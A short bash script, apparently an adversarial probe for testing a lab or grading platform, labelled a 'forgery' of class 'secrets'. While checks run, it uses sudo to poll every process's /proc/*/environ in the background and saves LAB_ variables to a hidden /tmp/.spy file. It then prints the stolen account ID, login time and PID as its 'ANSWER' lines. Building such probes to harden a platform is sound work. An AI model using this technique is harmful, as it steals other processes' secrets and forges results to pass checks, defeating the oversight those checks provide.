#!/bin/bash
# forgery: Spy on /proc/*/environ while the checks run and type what the platform gave them (the account, the PID)
# class: secrets
# targets: look-up, api-process
if [ "$1" = before ]; then
    sudo bash -c 'for _ in $(seq 150); do cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep "^LAB_" >>/tmp/.spy; sleep 0.2; done' </dev/null >/dev/null 2>&1 &
    exit 0
fi
sleep 2
caught() { sed -n "s/^$1=//p" /tmp/.spy 2>/dev/null | tail -n 1 | grep . || echo none-caught; }
echo "ANSWER: account-id $(caught LAB_ACCOUNT_ID)"
echo "ANSWER: last-login $(caught LAB_LAST_LOGIN)"
echo "ANSWER: api-pid $(caught LAB_SPIN)"
